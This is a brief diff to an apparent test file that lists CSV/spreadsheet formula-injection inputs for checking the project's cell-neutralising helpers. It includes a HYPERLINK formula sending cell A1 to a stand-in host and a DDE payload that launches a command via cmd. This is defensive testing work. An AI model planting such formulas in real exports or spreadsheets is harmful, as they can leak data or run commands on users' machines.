@@ -12,7 +12,7 @@ import newsclust as nc
 from newsclust.run.csv_cells import as_csv, as_it_was, inert
 
 FORMULAS = [
-    '=HYPERLINK("http://x.example?"&A1)',
+    '=HYPERLINK("x.example?"&A1)',
     "+1+cmd|' /C calc'!A0",
     "@SUM(1)",
     "-2+3",
